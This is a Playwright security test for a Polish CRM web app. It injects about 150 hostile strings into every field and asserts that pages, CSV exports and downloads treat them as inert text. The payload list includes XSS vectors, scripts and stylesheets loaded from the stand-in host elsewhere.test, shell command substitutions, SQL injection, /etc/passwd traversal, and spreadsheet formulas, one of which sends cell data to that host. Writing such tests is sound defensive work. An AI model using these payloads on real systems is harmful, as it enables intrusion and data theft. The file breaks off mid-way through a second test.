// Names are text everywhere: a hundred and fifty hostile ones in every field, on every page, and nothing comes of them.
import { awake, card, column, expect, open, signIn, test, type House } from './house';
import type { Browser, Locator, Page } from '@playwright/test';

// What cannot be clicked says so soon.
test.use({ actionTimeout: 15_000 });

const quotes = ['"', "'", '`'];
const longest = (piece: string) => piece.repeat(Math.floor(200 / [...piece].length));

/** Where one says `alert(0)` it says its own number instead, so that a dialog tells which it was. */
const payloads = [
  // Ends of what a page may put around a text.
  '</title><meta http-equiv=refresh content="0;url=http://elsewhere.test/">', '</title><script>alert(0)</script>',
  '</h1></main></body></html><script>alert(0)</script>', '</script><script>alert(0)</script>', '</SCRIPT ><ScRiPt>alert(0)</ScRiPt>',
  '</textarea><script>alert(0)</script>', '</option></select><script>alert(0)</script>',
  '</style><style>@import url(http://elsewhere.test/a.css);</style>', '</table></td><script>alert(0)</script>',
  '</li></ul><svg onload=alert(0)>', '</template><img src=x onerror=alert(0)>', '<!--', '-->', '--!><script>alert(0)</script>',
  '<!--><script>alert(0)</script>-->', '<!-- <script>', '<![CDATA[<script>alert(0)</script>]]>', ']]>', '<!---->',
  '<!DOCTYPE html SYSTEM "http://elsewhere.test/x.dtd">', '<?xml-stylesheet href="http://elsewhere.test/x.xsl"?>',
  // Elements that run, fetch, lead away or deceive.
  '<script>alert(0)</script>', '<script src=http://elsewhere.test/a.js></script>', '<script src=/pkg/x.js></script>',
  '<script type=module>import "http://elsewhere.test/b.js"</script>', '<img src=x onerror=alert(0)>',
  '<img src=http://elsewhere.test/i.png>', '<IMG/SRC=x/ONERROR=alert(0)//', '<img srcset="http://elsewhere.test/s.png 1x">',
  '<svg onload=alert(0)>', '<svg><script>alert(0)</script></svg>', '<svg><animate onbegin=alert(0) attributeName=x dur=1s>',
  '<svg><use href="http://elsewhere.test/u.svg#x"/>', '<svg><a xlink:href="javascript:alert(0)"><text y=9>here</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(0)>', '<iframe srcdoc="<script>alert(0)</script>"></iframe>',
  '<iframe src=http://elsewhere.test/></iframe>', '<iframe src="javascript:alert(0)">', '<object data=http://elsewhere.test/o></object>',
  '<embed src=http://elsewhere.test/e>', '<base href=http://elsewhere.test/>', '<link rel=stylesheet href=http://elsewhere.test/l.css>',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta http-equiv=set-cookie content="theme=dark">', '<meta charset=utf-7>+ADw-script+AD4-alert(0)+ADw-/script+AD4-',
  '<style>@import "http://elsewhere.test/c.css";</style>', '<style>*{background:url(http://elsewhere.test/b)}</style>',
  '<p style="background:url(http://elsewhere.test/p)">styled</p>', '<body onload=alert(0)>', '<body background=http://elsewhere.test/bg>',
  '<video poster=http://elsewhere.test/v><source onerror=alert(0)></video>', '<details open ontoggle=alert(0)>',
  '<input autofocus onfocus=alert(0)>', '<form action=http://elsewhere.test/><button>Send</button></form>',
  '</form><form id=f action=http://elsewhere.test/><input name=q>', '<button formaction="javascript:alert(0)">Press</button>',
  '<dialog open><h1>Sign in again</h1></dialog>', '<template shadowrootmode=open><script>alert(0)</script></template>',
  '<a href="javascript:alert(0)">here</a>', '<a href=//elsewhere.test ping=http://elsewhere.test/ping>there</a>',
  '<a id=wasm_bindgen><a id=wasm_bindgen name=default>', '<img name=getElementById>', '<<script>alert(0)//<</script>',
  '<scr<script>ipt>alert(0)</scr</script>ipt>', '<x onclick=alert(0) style=position:fixed;inset:0>', '<plaintext>',
  // Ways out of an attribute.
  ...quotes.flatMap((quote, n) => [
    `${quote}><script>alert(0)</script>`, `${quote} onfocus=alert(0) autofocus x=${quote}`, `x${quote} onmouseover=${quote}alert(0)`,
    `${quote} style=${quote}background:url(http://elsewhere.test/${n})`,
  ]),
  // Addresses, and what becomes of them where somebody decodes twice.
  'javascript:alert(0)', 'JaVaScRiPt://x/%0aalert(0)', 'data:text/html,<script>alert(0)</script>', '//elsewhere.test/',
  '\\\\elsewhere.test\\share', 'http://elsewhere.test/?a=1&b=2#c', '%3Cscript%3Ealert(0)%3C/script%3E', '%253Cimg%2520src=x%253E',
  '%00%0d%0aSet-Cookie: a=b', '100 % + 5 &amp= 1', 'a&q=b&owner=1#c?d', '../../../../etc/passwd', '..\\..\\windows\\win.ini',
  '&lt;script&gt;alert(0)&lt;/script&gt;', '&#60;img src=x onerror=alert(0)&#62;', '&amp;lt;b&amp;gt;', '&quot;&apos;&#x27;&NewLine;',
  '&lt', '&', '<', '>"',
  // What templates, formats, shells, databases and readers of JSON take for their own.
  '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{% debug %}', '{0} {name} {}', '%s %n %x %d', '$(touch /tmp/x)', '`id`;|&& ls',
  "'; DROP TABLE deal; --", "' OR '1'='1", '%_%', '\\', '\\u003cscript\\u003ealert(0)\\u003c/script\\u003e', '\\ud800', '\\0\\n\\r\\x1b[31m',
  '__proto__', 'null', 'undefined', 'NaN', '1e309', '{"kind":"not_found"}', '["<script>"]',
  // Formulas.
  '=HYPERLINK("http://elsewhere.test/?"&A1,"Open")', '=1+1', '+48 22 100 20 30', '-2+3', '@SUM(A1:A9)', "=cmd|'/C calc'!A0", 'a;=1+2', 'b,=1+3',
  "'=1+4", '"=1+5"',
  // Letters that turn, hide, join, break the line, look like others, or go on and on.
  'safe\u202egnp.exe', '\u2066left\u2069 \u2067right\u2069', 'zero\u200bwidth\u2060joined', '\ufeffmarked', 'line\u2028separated\u2029twice',
  '<script>\u2028alert(0)\u2029</script>', 'Z\u0351\u036b\u0343a\u0306\u0309\u0349l\u033eg\u0320o\u0489',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467} family', '＜script＞alert(0)＜/script＞', 'İIıi ẞß ﬁ ǅ', 'not a character \ufffe\u{10ffff}',
  'مرحبا <b>بالعالم</b>', '𝕏'.repeat(200), longest('<b>'), longest('"><i>'), longest('\'"`<>&'), longest('W'), longest('ﷺ'),
].map((payload, n) => payload.replaceAll('alert(0)', `alert(${n})`));

const p = (n: number) => payloads[n % payloads.length];
/** The payload at `n` and those after it. */
const few = (n: number, count: number) => Array.from({ length: count }, (_, index) => p(n + index));
const op = () => crypto.randomUUID();
/** A file keeps its name but for what would part a path. */
const filed = (name: string) => name.replace(/[/\\]/g, '_');

const EVE = { name: '<img src=x onerror=alert("Eve")> "Eve\'`', email: '"><img/src=x/onerror=alert(1)>@demo.test' };

type Call = [name: string, body: unknown];
type Stage = { id: number; actions: { id: number }[] };
type Named = { id: number; name: string; active: boolean };

/** Sends commands and queries one after another, as a page of the program would: each command under an op of its own. */
function ask<T>(page: Page, calls: Call[]): Promise<T[]> {
  return page.evaluate(async (calls) => {
    const answers = [];
    for (const [name, body] of calls) {
      const headers = { 'content-type': 'application/json' };
      const sent = JSON.stringify(/^(add|save|close|complete)_/.test(name) ? { op: crypto.randomUUID(), ...(body as object) } : body);
      const answer = await fetch(`/api/${name}`, { method: 'POST', headers, body: sent });
      if (!answer.ok) throw new Error(`${name} ${JSON.stringify(body)}: ${await answer.text()}`);
      answers.push(await answer.json());
    }
    return answers;
  }, calls);
}

const tell = async <T>(page: Page, name: string, body: unknown = {}) => (await ask<T>(page, [[name, body]]))[0];

/** Sends files for notes; each says in HTML how it is called. */
function send(page: Page, files: { deal: number; name: string }[]): Promise<number[]> {
  return page.evaluate(async (files) => {
    const ids = [];
    for (const { deal, name } of files) {
      const body = `<!DOCTYPE html><html><body>${name}</body></html>`;
      const answer = await fetch(`/files/${deal}?name=${encodeURIComponent(name)}`, { method: 'POST', body });
      if (!answer.ok) throw new Error(`${name}: ${await answer.text()}`);
      ids.push(await answer.json());
    }
    return ids;
  }, files);
}

/** The form of a process. Of the actions of each stage the first adds a task, the second wants a note. */
function plan(name: string, from: number, stages: number, actions: number) {
  const action = (n: number, at: number) => ({
    id: null, name: p(n), hint: p(n + 75), weight: '1',
    rules: {
      mandatory: n % 40 === 0, note: at === 1 ? 'note' : 'no',
      trigger: at === 0 ? { title: p(n + 1), kind: 'call', days: 3, assignee: 'owner' } : null,
    },
  });
  const stage = (n: number) => ({
    id: null, name: p(n), hint: p(n + 1), actions: Array.from({ length: actions }, (_, at) => action(actions * n + at, at)),
  });
  const all = Array.from({ length: stages }, (_, index) => stage(from + index));
  return { name, active: true, default: false, guarded: false, relocations: [], stages: all };
}

type Filled = Awaited<ReturnType<typeof fill>>;

/** Puts the payloads into every field: deal `n` is called by payload `n`, its other fields by those further on. */
async function fill(page: Page) {
  const [process, ...others] = await ask<number>(page, Array.from({ length: 26 }, (_, n): Call =>
    ['add_process', { form: n === 0 ? plan(p(0), 0, 24, 3) : plan(p(n), 19 + 5 * n, 5, 1) }]));
  const stagesOf = async (process: number) =>
    (await tell<{ process: { stages: Stage[] } }>(page, 'process', { process })).process.stages;
  const [usual, stages] = [await stagesOf(1), await stagesOf(process)];

  const { list: before, version } = await tell<{ list: Named[], version: number }>(page, 'reasons');
  const more = payloads.map((name) => ({ id: null, name, active: true }));
  await tell(page, 'save_reasons', { version, reasons: [...before, ...more], required: false });
  const reasons = (await tell<{ list: Named[] }>(page, 'reasons')).list.slice(before.length);
  const settings = await tell<{ categories: Named[], version: number }>(page, 'cost_settings');
  const known = settings.categories;
  const added = payloads.map((name) => ({ id: null, name }));
  await tell(page, 'save_cost_settings', { version: settings.version, categories: [...known, ...added], costs: true });
  const categories = (await tell<{ categories: Named[] }>(page, 'cost_settings')).categories.slice(known.length);
  const products = await ask<number>(page, payloads.map((name, n): Call =>
    ['save_product', { product: { id: null, name, code: p(n + 1), price: '5', currency: 'PLN', active: true } }]));

  const { people } = await tell<{ people: Named[] }>(page, 'offer');
  const eve = people.find((person) => person.name === EVE.name)!.id;
  const form = (n: number, name: string, company: string) => ({
    company, person: p(n + 20), name, source: null, expected_close: '', value: '', currency: 'PLN', owner: n % 4 ? 1 : eve, description: p(n + 30),
  });
  const line = (name: string, product: number | null) => ({ id: null, product, name, quantity: '1', price: '10', discount: '', date: '' });
  const place = (n: number) => {
    if (n % 6 === 5) return { process: 1, stage: usual[n % 5].id };
    return n < 12 || n % 3 === 0 ? { process, stage: stages[n % 24].id } : { process: others[n % 25], stage: null };
  };
  const deals = await ask<number>(page, payloads.map((name, n): Call => ['add_deal', {
    // The first ones get their names later, which their histories tell.
    form: n < 12 ? form(n, p(n + 60), p(n + 70)) : form(n, name, p(n + 10)), ...place(n), participants: [],
    lines: [line(p(n + 40), null), line(p(n + 50), products[n])], op: op(),
  }]));

  const rich = deals.slice(0, 12);
  await ask(page, rich.flatMap((deal, n): Call[] => [
    ['save_deal', { deal, version: 1, form: { ...form(n, p(n), p(n + 10)), value: '20' } }],
    ['save_costs', { deal, version: 2, kind: 'forecast', costs: few(13 * n, 13).map((note, at) =>
      ({ id: null, category: categories[(13 * n + at + 1) % 150].id, amount: '1', date: '', note })) }],
    ...few(13 * n, 13).map((title): Call => ['add_task', { deal, form: { title }, op: op() }]),
    ...(n % 6 === 5 ? [] : stages[n].actions.slice(0, 2)).map((action): Call =>
      ['complete_action', { deal, action: action.id, note: p(n + 80), files: [], op: op() }]),
  ]));
  const files = await send(page, rich.flatMap((deal, n) => few(13 * n, 13).map((name) => ({ deal, name }))));
  await ask(page, files.map((file, n): Call =>
    ['add_note', { deal: rich[Math.floor(n / 13)], text: p(n + 1), files: [file], op: op() }]));
  const closed = deals.slice(30, 60);
  await ask(page, closed.map((deal, n): Call =>
    ['close_deal', { deal, outcome: n % 2 ? 'lost' : 'stale', reason: reasons[5 * n].id, note: p(5 * n + 2) }]));
  const open = deals.map((deal, n) => ({ deal, n, process: place(n).process })).filter(({ deal }) => !closed.includes(deal));
  return { process, deals, rich, files, closed, open };
}

/** Somebody who walks from page to page, and everything that should not have happened on the way. */
class Walker {
  readonly troubles: string[] = [];
  private readonly gone: string[] = [];
  private readonly went: string[] = [];

  constructor(readonly page: Page, readonly house: House) {}

  /** Listens from now on. */
  async listen() {
    const { page } = this;
    const trouble = (what: string) => this.troubles.push(`${what}, on ${page.url()}`);
    await page.addInitScript(() => addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) =>
      console.error(`policy violated: ${violatedDirective} ${blockedURI} ${sample}`)));
    page.on('dialog', (dialog) => {
      const ours = dialog.type() === 'confirm' && dialog.message() === 'Wpisane dane nie zostały zapisane. Porzucić je?';
      if (!ours) trouble(`a dialog says ${dialog.message()}`);
      void (ours ? dialog.accept() : dialog.dismiss());
    });
    page.on('pageerror', (error) => trouble(String(error)));
    page.on('console', (message) => {
      const text = message.text();
      const expected = /the server responded with a status of/.test(text);
      if ((message.type() === 'error' && !expected) || /panicked|policy|refused to|hydrat/i.test(text)) trouble(text);
    });
    page.on('frameattached', (frame) => trouble(`a frame ${frame.url()}`));
    page.context().on('page', (other) => trouble(`another window ${other.url()}`));
    page.context().on('request', (request) => {
      if (new URL(request.url()).origin !== this.house.url) trouble(`a request to ${request.url()}`);
      if (request.isNavigationRequest()) this.gone.push(whereTo(request.url()));
    });
  }

  /** Loads a page, and looks whether it is that page and nothing of a payload became an element or an attribute. */
  async visit(path: string, status = 200) {
    this.went.push(whereTo(this.house.url + path));
    const answer = await this.page.goto(this.house.url + path);
    expect(answer!.status(), path).toBe(status);
    await awake(this.page);
    await this.isPlain();
  }

  async isPlain() {
    expect(new URL(this.page.url()).origin).toBe(this.house.url);
    expect(await this.page.evaluate(strange), this.page.url()).toEqual([]);
    expect(this.troubles).toEqual([]);
  }

  /** Nothing happened that should not, and no page led to another by itself. */
  isUnharmed() {
    expect(this.troubles).toEqual([]);
    expect(this.gone).toEqual(this.went);
  }

  /** Each of these stands on the page, letter by letter: as a text, in a field, or in an attribute that is read out. */
  async shows(wanted: string[], within = false) {
    await expect.poll(() => this.page.evaluate(missing, { wanted, within }), this.page.url()).toEqual([]);
  }

  async showsWithin(wanted: string[]) {
    await this.shows(wanted, true);
  }

  async isTitled(text: string) {
    await expect.poll(() => this.page.evaluate(() => document.title)).toBe(`${text} · Tablica`);
  }
}

const whereTo = (address: string) => { const { pathname, search } = new URL(address); return pathname + search; };

/** What of a document no text of ours makes: elements that fetch or frame, listeners, addresses elsewhere. Runs in the page. */
function strange(of: Document = document): string[] {
  const never = `iframe, frame, object, embed, base, portal, img, image, picture, video, audio, math, marquee, plaintext, xmp, template:not(#unfetched, #renewed, #crashed),
    style, body meta, body link, script:not([nonce], #visitor, #answer), dialog dialog, form form, [autofocus]:not(input, select), [srcdoc], [ping], [background]`;
  const leads = ['href', 'xlink:href', 'src', 'action', 'formaction', 'data', 'poster', 'srcset'];
  const odd = ({ name, value }: Attr) => {
    if (name.startsWith('on')) return true;
    return leads.includes(name) && new URL(value, location.href).origin !== location.origin;
  };
  const found = [...of.querySelectorAll('*')].filter((one) => one.matches(never) || [...one.attributes].some(odd));
  return found.map((one) => one.outerHTML.slice(0, 200));
}

/** Which of these are no text of the page: no text node, no value of a field, no attribute that people read or hear. Runs in the page. */
function missing({ wanted, within }: { wanted: string[]; within: boolean }): string[] {
  const found = new Set<string>();
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walk.nextNode()) found.add(walk.currentNode.nodeValue!);
  for (const one of document.querySelectorAll('input, textarea, option, [title], [aria-label]')) {
    if ('value' in one) found.add(String(one.value));
    for (const name of ['title', 'aria-label']) found.add(one.getAttribute(name) ?? '');
  }
  return wanted.filter((text) => !found.has(text) && !(within && [...found].some((line) => line.includes(text))));
}

/** The pages of all deals as they are served, before a browser makes anything of them. */
async function asServed({ page }: Walker, { deals }: Filled) {
  const read = async (deals: number[], strange: (of: Document) => string[]) => {
    const pages = [];
    for (const deal of deals) {
      const page = new DOMParser().parseFromString(await (await fetch(`/deals/${deal}`)).text(), 'text/html');
      pages.push({ title: page.title, heading: page.querySelector('h1')?.textContent, odd: strange(page) });
    }
    return pages;
  };
  const pages = await page.evaluate(`(${read})(${JSON.stringify(deals)}, ${strange})`);
  expect(pages).toEqual(payloads.map((name) => ({ title: `${name} · Tablica`, heading: name, odd: [] })));
}

async function boards(anna: Walker, { process, open }: Filled) {
  const { page } = anna;
  await anna.visit('/');
  await anna.shows(open.filter((deal) => deal.process === 1).flatMap(({ n }) => [p(n), `${p(n + 10)} · ${p(n + 20)}`]));
  await anna.visit(`/board/${process}`);
  const here = open.filter((deal) => deal.process === process);
  await anna.shows([...here.flatMap(({ n }) => [p(n), `${p(n + 10)} · ${p(n + 20)}`, `Przenieś… ${p(n)}`]), ...few(0, 24), EVE.name]);
  expect(await page.locator('h1').textContent()).toBe(p(0));
  await anna.isTitled(p(0));

  // Those that an address could take for something else.
  for (const { n, deal, process } of open.filter(({ n }) => /[%+#]/.test(p(n))).slice(0, 4)) {
    await anna.visit(`/board/${process}?q=${encodeURIComponent(p(n))}`);
    expect(await page.locator('input[name=q]').inputValue()).toBe(p(n));
    expect(await card(page, String(deal)).locator('.card-name').textContent()).toBe(p(n));
  }
  const typed = open.find(({ n }) => p(n).includes('&q='))!;
  await anna.visit(`/board/${typed.process}`);
  await page.locator('input[name=q]').fill(p(typed.n));
  await expect(page).toHaveURL((url) => url.searchParams.get('q') === p(typed.n));
  const matching = open.filter(({ n, process }) =>
    process === typed.process && [n, n + 10, n + 20].some((of) => p(of) === p(typed.n)));
  await expect(page.locator('[data-deal-id]')).toHaveCount(matching.length);
  expect(await card(page, String(typed.deal)).locator('.card-name').textContent()).toBe(p(typed.n));
  await anna.isPlain();

  await anna.visit(`/board/${process}`);
  await card(page, String(here[0].deal)).focus();
  await page.keyboard.press('m');
  const dialog = page.getByRole('dialog');
  expect(await dialog.getByRole('heading').textContent()).toBe(`Przenieś: ${p(here[0].n)}`);
  await dialog.locator('select').first().selectOption({ index: 7 });
  await anna.shows([...few(0, 24), `Po: ${p(7)}`]);
  await anna.isPlain();
  const moved = page.waitForResponse('**/api/move_deal');
  await dialog.getByRole('button', { name: 'Przenieś', exact: true }).click();
  await moved;
  await anna.showsWithin([`${p(7)}, 1 `]);
  await expect(column(page, 7).locator('.card-name').first()).toHaveAttribute('href', `/deals/${here[0].deal}`);
  await anna.isPlain();
}

async function dealPages(anna: Walker, { rich, closed }: Filled) {
  const { page } = anna;
  const dialog = page.getByRole('dialog');
  for (const [n, deal] of rich.entries()) {
    // The fragment is looked for among the fields.
    await anna.visit(`/deals/${deal}#${encodeURIComponent(p(n))}`);
    expect(await page.locator('h1 span').textContent()).toBe(p(n));
    await anna.isTitled(p(n));
    const [tasks, notes] = [few(13 * n, 13), few(13 * n + 1, 13)];
    await anna.shows([
      p(n + 10), p(n + 20), p(n + 30), p(n + 40), p(n + 50), ...tasks, ...tasks.map((title) => `Usuń zadanie „${title}”`),
      ...notes, ...tasks.map(filed), `zmienia nazwę „${p(n + 60)}” na „${p(n)}”`, ...tasks.map((title) => `dodaje zadanie „${title}”`),
    ]);
    if (n % 6 === 5) continue;
    await anna.shows([...few(0, 72), ...few(75, 72), `do działania „${p(3 * n + 1)}”`]);
    await anna.showsWithin([`wykonuje „${p(3 * n)}”, `, `doda zadanie „${p(3 * (n ? 0 : 1) + 1)}” za 3 d`, `zmienia klienta: ${p(n + 70)} → ${p(n + 10)}`]);
  }
  for (const [n, deal] of [...closed.entries()].slice(0, 2)) {
    await anna.visit(`/deals/${deal}`);
    await anna.showsWithin([` · ${p(5 * n)} · ${p(5 * n + 2)}`, ` (powód: ${p(5 * n)})`]);
  }

  await anna.visit(`/deals/${rich[2]}`);
  const money = page.locator('.money');
  await money.getByRole('button', { name: 'Edytuj: Prognoza' }).click();
  await money.getByLabel('Produkt', { exact: true }).first().waitFor();
  await anna.shows([p(42), p(52), ...payloads]);
  await anna.isPlain();
  await page.keyboard.press('Escape');
  await money.getByRole('button', { name: 'Koszty' }).click();
  await anna.shows(few(26, 14));
  await money.getByRole('button', { name: 'Edytuj: Prognoza' }).click();
  await money.getByLabel('Kategoria').first().waitFor();
  await anna.shows(payloads);
  await anna.isPlain();
  await page.keyboard.press('Escape');

  const note = await page.locator('.note-text').first().textContent();
  await page.locator('.note').first().getByRole('button', { name: 'Edytuj' }).click();
  expect(await page.locator('.note textarea').inputValue()).toBe(note);
  await page.locator('.verbs summary').click();
  await page.getByRole('button', { name: 'Do innego procesu…' }).click();
  await dialog.locator('select').last().waitFor();
  await dialog.locator('select').first().selectOption({ index: 6 });
  await anna.shows([...few(1, 25), ...few(19 + 5 * 5, 5)]);
  await anna.isPlain();
  await dialog.getByRole('button', { name: 'Anuluj' }).click();

  await page.getByRole('button', { name: 'Przegrana', exact: true }).click();
  await dialog.getByLabel('Powód').waitFor();
  await anna.shows(payloads);
  await anna.isPlain();
  await dialog.getByRole('button', { name: 'Anuluj' }).click();

  await page.locator('.action').nth(10).getByRole('checkbox').click();
  expect(await dialog.getByRole('heading').textContent()).toBe(p(10));
  await dialog.getByRole('button', { name: 'Anuluj' }).click();
  await page.getByRole('button', { name: /^Wygrana/ }).click();
  await page.locator('.toast').waitFor();
  await anna.showsWithin([`: ${p(0)}, ${p(40)}`]);
  await anna.isPlain();

  await page.getByRole('button', { name: 'Szansa', exact: true }).click();
  for (const [field, n] of [['#new-company', 75], ['#new-person', 85]] as const) {
    await dialog.locator(field).fill(p(n));
    await dialog.getByRole('option').first().waitFor();
    expect(await dialog.getByRole('option').evaluateAll((all) => all.map((one) => one.firstChild!.textContent))).toContain(p(n));
  }
  await anna.shows([...few(0, 26), p(75), p(85), EVE.name]);
  await anna.isPlain();
  await dialog.getByRole('button', { name: 'Anuluj' }).click();
}

/** The cells of a file of comma- or semicolon-separated values. */
function cells(text: string, mark: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(new RegExp(`(?:"((?:[^"]|"")*)"|([^"${mark}\\r\\n]*))(${mark}|\\r?\\n|$)`, 'g'))) {
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end !== mark) rows.push([]);
  }
  return rows.filter((row) => row.length > 1);
}

async function exported({ page, house }: Walker, mark: string) {
  // Forecasts of lost and stale deals are in a file of their own only.
  const answers = await Promise.all(['', '&status=lost', '&status=stale'].map((end) => page.request.get(`${house.url}/finance/export.csv?period=all${end}`)));
  const texts = await Promise.all(answers.map((answer) => answer.text()));
  const rows = texts.flatMap((text) => cells(text.replace('\ufeff', ''), mark));
  expect(new Set(rows.map((row) => row.length))).toEqual(new Set([10]));
  const runs = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?[\d.,]+$/.test(cell);
  expect(rows.flat().filter(runs)).toEqual([]);
  const bare = (text: string) => text.replaceAll("'", '');
  for (const column of [1, 2, 3, 4]) {
    const names = new Set(rows.map((row) => bare(row[column])));
    expect(payloads.filter((payload) => !names.has(bare(payload)))).toEqual([]);
  }
}

async function finance(walker: Walker, { open }: Filled, mark: string) {
  const { page } = walker;
  await walker.visit('/finance?period=all');
  // What a question can be answered with is drawn when it is opened.
  await page.locator('details[data-filter=owner] summary').click();
  for (let asked = 0; asked < 3; asked++) {
    await page.locator('.add-filter').click();
    await page.locator('.filter-bar .links button').first().click();
  }
  await walker.shows([...payloads, ...few(0, 26), EVE.name]);
  for (const { n } of open.filter(({ n }) => /[%&+#].{8}/.test(p(n + 10))).slice(0, 2)) {
    await walker.visit(`/finance?period=all&client=${encodeURIComponent(p(n + 10))}`);
    expect(await page.locator('input[name=q]').inputValue()).toBe(p(n + 10));
    await walker.shows([p(n), `${p(n + 10)} · ${p(n + 20)}`, p(n + 40), p(n + 50)]);
  }
  await exported(walker, mark);
  await walker.visit('/review');
  await walker.isPlain();
}

async function editor(walker: Walker, { process }: Filled) {
  const { page } = walker;
  const dialog = page.getByRole('dialog');
  await walker.visit(`/settings/deals/processes/${process}`);
  await page.locator('.stage-draft').first().waitFor();
  await walker.shows(few(0, 72));
  const stage = page.locator('.stage-draft').nth(2);
  await stage.locator('.action-draft').first().locator('> .icon-button').click();
  await walker.shows([p(6 + 75), p(6 + 1), EVE.name]);
  await walker.isPlain();
  await page.keyboard.press('Escape');
  await stage.locator('header > .icon-button').click();
  await dialog.locator('select').waitFor();
  expect(await dialog.locator('option').allTextContents()).toEqual(few(0, 24).filter((_, n) => n !== 2));
  await walker.isPlain();
  await page.keyboard.press('Escape');
}

async function lists(walker: Walker, copyOf: string, deleteNamed: string) {
  const { page } = walker;
  const dialog = page.getByRole('dialog');
  await walker.visit('/settings/deals/processes');
  await walker.shows(few(0, 26).flatMap((name) => [name, `${copyOf} ${name}`]));
  await walker.visit('/settings/deals/reasons');
  await walker.shows(payloads);
  await walker.visit('/settings/deals/costs');
  await walker.shows(payloads.flatMap((name) => [name, `${deleteNamed} ${name}`]));
  await walker.visit('/settings/deals/products');
  await walker.shows(payloads);
  await page.locator('.catalogue').getByRole('button', { name: p(2), exact: true }).first().click();
  expect(await dialog.locator('input[name=name]').inputValue()).toBe(p(2));
  expect(await dialog.locator('input[name=code]').inputValue()).toBe(p(3));
  await walker.isPlain();
}

/** From the board to a deal and back, without another page being loaded. */
async function byHand(eve: Walker, { process, rich }: Filled) {
  const { page } = eve;
  await eve.visit(`/board/${process}`);
  // The menu of the account is fetched when it is opened, and stays.
  await page.locator('.top-bar summary.avatar').click();
  await page.locator('.menu-person').waitFor();
  await page.keyboard.press('Escape');
  for (const [n, deal] of rich.entries()) {
    if (n % 6 === 5) continue;
    await card(page, String(deal)).locator('.card-name').click();
    await page.locator(`[data-deal="${deal}"]`).waitFor();
    expect(await page.locator('h1 span').textContent()).toBe(p(n));
    await eve.isTitled(p(n));
    await eve.shows([
      p(0), p(n + 10), p(n + 20), p(n + 30), p(n + 40), p(n + 50), ...few(0, 72), ...few(75, 72), ...few(13 * n, 14), ...few(13 * n, 13).map(filed),
      EVE.name, EVE.email, `renamed “${p(n + 60)}” to “${p(n)}”`, `for the action “${p(3 * n + 1)}”`,
    ]);
    await eve.isPlain();
    await page.goBack();
    await page.locator('[data-board]').waitFor();
  }
}

/** Addresses that lead nowhere or ask for what there is not, and the door. */
async function astray(walker: Walker) {
  const { page } = walker;
  const some = payloads.filter((_, n) => n % 75 === 0).concat('//elsewhere.test/', '../../../../etc/passwd');
  for (const path of [...some.map((payload) => `/${encodeURIComponent(payload)}`), '//elsewhere.test/']) {
    await walker.visit(path, 404);
    await walker.isTitled('There is nothing here for you');
  }
  await walker.visit(`/deals/${encodeURIComponent(p(1))}`, 404);
  await walker.visit(`/board/${encodeURIComponent(p(3))}`, 404);
  for (const [path, payload] of [['/', p(1)], ['/finance', p(0)]]) {
    await walker.visit(`${path}?${encodeURIComponent(payload)}=1`, 400);
    await walker.showsWithin([payload]);
  }
  await walker.visit(`/settings/deals/processes/${encodeURIComponent(p(1))}`);
  await page.getByRole('heading', { name: 'There is nothing here for you' }).waitFor();
  await tell(page, 'sign_out');
  await walker.visit(`/sign-in?to=${encodeURIComponent('javascript:alert(1)')}`, 400);
  await walker.visit(`/sign-in?next=${encodeURIComponent('javascript:alert(1)')}#${encodeURIComponent(p(1))}`);
  await page.locator('input[name=email]').fill('nobody@demo.test');
  await page.locator('input[name=password]').fill(p(1));
  await page.locator('form button').click();
  await expect(page.locator('.form-refusal')).not.toBeEmpty();
  await walker.isPlain();
}

/** Files with hostile names and a page inside: they are kept, never shown, under names that headers can say. */
async function kept({ page }: Walker, { files }: Filled) {
  const answers = await page.evaluate(async (files) => {
    const answers = [];
    for (const file of files) {
      const answer = await fetch(`/files/${file}`);
      answers.push({ headers: Object.fromEntries(answer.headers), body: await answer.text() });
    }
    return answers;
  }, files);
  for (const [n, { headers, body }] of answers.entries()) {
    const manner = headers['content-disposition'];
    expect(manner).toMatch(/^attachment; filename\*=UTF-8''[\w.%-]+$/);
    expect(decodeURIComponent(manner.split("''")[1])).toBe(filed(p(n)));
    expect(headers['content-security-policy']).toContain("default-src 'none'");
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(body).toContain(p(n));
  }
}

/** Somebody whose name and address are payloads too, in a window of their own. */
async function eveIn(browser: Browser, house: House) {
  const said = house.run('user', 'add', '--email', EVE.email, '--name', EVE.name, '--role', 'administrator');
  const page = await (await browser.newContext({ locale: 'en-GB', viewport: { width: 1440, height: 900 } })).newPage();
  await open(page, `${house.url}/sign-in`);
  await tell(page, 'sign_in', { email: EVE.email, password: said.match(/Password: (\S+)/)![1] });
  await tell(page, 'choose_language', { language: 'en' });
  return page;
}

test('a hundred and fifty hostile names are shown in every field as they are, and nothing comes of them', async ({ page, browser, demo }) => {
  test.setTimeout(240_000);
  expect(new Set(payloads).size).toBe(150);
  await signIn(page, demo, 'anna');
  const [anna, eve] = [new Walker(page, demo), new Walker(await eveIn(browser, demo), demo)];
  const filled = await fill(page);
  await Promise.all([anna.listen(), eve.listen()]);
  const polish = async () => {
    await boards(anna, filled);
    await dealPages(anna, filled);
    await finance(anna, filled, ';');
    await lists(anna, 'Kopia:', 'Usuń:');
  };
  const english = async () => {
    await byHand(eve, filled);
    await finance(eve, filled, ',');
    await editor(eve, filled);
    await lists(eve, 'A copy of', 'Delete');
    await kept(eve, filled);
    await asServed(eve, filled);
    await astray(eve);
  };
  await Promise.all([polish(), english()]);
  for (const walker of [anna, eve]) walker.isUnharmed();
});

test('names without a space stay inside what holds them', async ({ page, demo }) => {
  await signIn(page, demo, 'anna');
  const name = 'W'.repeat(200);
  const form = { company: name, person: name, name, source: null, expected_close: '', value: '', currency: 'PLN', owner: 1, description: name };
  const process = await tell<number>(page, 'add_process', { form: {
    name, active: true, default: false, guarded: false, relocations: [],
    stages: [name, name].map((name) => ({ id: null, name, hint: '', actions: [{ id: null, name, hint: '', weight: '1', rules: {} }] })),
  } });
  const lines = [{ id: null, product: null, name, quantity: '1', price: '10', discount: '', date: '' }];
